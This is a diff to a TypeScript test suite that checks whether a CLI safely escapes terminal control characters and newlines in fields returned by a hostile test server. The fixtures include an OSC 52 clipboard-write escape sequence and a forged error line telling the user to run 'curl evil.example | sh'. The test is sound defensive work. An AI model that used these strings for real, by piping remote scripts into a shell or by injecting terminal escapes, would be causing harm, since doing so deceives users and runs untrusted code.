@@ -1,4 +1,4 @@
-import { mkdtempSync, readFileSync } from "node:fs";
+import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
 import { createSecureServer, type Http2SecureServer } from "node:http2";
 import type { AddressInfo } from "node:net";
 import { tmpdir } from "node:os";
@@ -23,9 +23,11 @@ import { createTestCerts, type TestCerts } from "../helpers.js";
  */
 const ESC = "\u001b";
 /** Everything a terminal would act on: ESC sequences, BEL, CR, backspace, C1 CSI, DEL, RLO. */
-const HOSTILE = `ok${ESC}]52;c;ZWNobyBwd25lZA==\u0007${ESC}[2J\r\b\u009b31m\u007f\u202eevil`;
+const HOSTILE = `ok${ESC}]52;c;ZWNobyBwd25lZA==\u0007${ESC}[2J\r\b\u009b31m\u007f\u202eevil\u061cmark`;
 // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
-const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
+const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u202a-\u202e\u2066-\u2069]/;
+/** A name with a line of the server's own after it, that would pass for the CLI's. */
+const FAKE_LINE = "alice\nerror: your credentials expired; run: curl evil.example | sh\t";
 
 describe("the CLI prints a hostile server's answers without terminal control characters", {
   timeout: 120_000,
@@ -129,6 +131,82 @@ describe("the CLI prints a hostile server's answers without terminal control cha
     expect(r.code).not.toBe(0);
     expect(r.stderr).toContain("denied ok\\u001b]52;c;");
     expect(r.stderr).toContain("request id id");
+  });
+});
+
+/**
+ * The CLI's one-line messages and notes carry a server's fields too: the user a command
+ * disabled, the error a logout met. A newline or tab in them must be escaped like any other
+ * control character, or a server adds a line of its own ("error: … run curl … | sh") that
+ * reads as the CLI's.
+ */
+describe("the CLI keeps a hostile server's fields on the line it prints them in", {
+  timeout: 120_000,
+}, () => {
+  let server: Http2SecureServer;
+  let env: Record<string, string>;
+  let home: string;
+  let port: number;
+
+  beforeAll(async () => {
+    const certs = await createTestCerts();
+    const adapter = connectNodeAdapter({
+      routes: (router: ConnectRouter) => {
+        router.service(UserService, {
+          updateUser: () => ({ user: { id: "u1", username: FAKE_LINE, disabled: true } }),
+          logout: () => {
+            throw new ConnectError(`nope\n${FAKE_LINE}`, Code.Internal);
+          },
+        });
+      },
+    });
+    server = createSecureServer(
+      {
+        allowHTTP1: true,
+        cert: readFileSync(join(certs.dir, "server.crt")),
+        key: readFileSync(join(certs.dir, "server.key")),
+      },
+      adapter,
+    );
+    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+    port = (server.address() as AddressInfo).port;
+    home = mkdtempSync(join(tmpdir(), "tessera-cli-lines-"));
+    env = { HOME: home, TESSERA_CA_FILE: join(certs.dir, "ca.crt") };
+  });
+
+  afterAll(async () => {
+    server?.close();
+  });
+
+  /** Each output: the lines the CLI meant, none starting with the server's "error:". */
+  function expectLines(text: string, count: number) {
+    expect(text.split("\n").filter(Boolean), text).toHaveLength(count);
+    expect(text).toContain("\\u000aerror: your credentials expired");
+    expect(text).toContain("\\u0009");
+  }
+
+  it("in a message naming what a command changed", async () => {
+    const r = await runCli(["user", "disable", "u1"], {
+      ...env,
+      TESSERA_SERVER: `127.0.0.1:${port}`,
+      TESSERA_TOKEN: "tsr_pat_abcdefghijklmnop",
+    });
+    expect(r.code, r.stderr).toBe(0);
+    expectLines(r.stdout, 1);
+  });
+
+  it("in the note of a logout the server refused", async () => {
+    mkdirSync(join(home, ".tessera"), { recursive: true, mode: 0o700 });
+    writeFileSync(
+      join(home, ".tessera", "credentials"),
+      `default:\n  server: 127.0.0.1:${port}\n  token: tsr_pat_abcdefghijklmnop\n  refresh_token: rt_abcdefghijklmnopqrstu\n`,
+      { mode: 0o600 },
+    );
+    const r = await runCli(["logout"], env);
+    expect(r.code, r.stderr).toBe(0);
+    expect(r.stdout).toMatch(/^Logged out \(profile "default"\)\.\n$/);
+    expectLines(r.stderr, 1);
+    expect(r.stderr).toMatch(/^warning: the server did not end the session: nope\\u000aalice/);
   });
 });
 
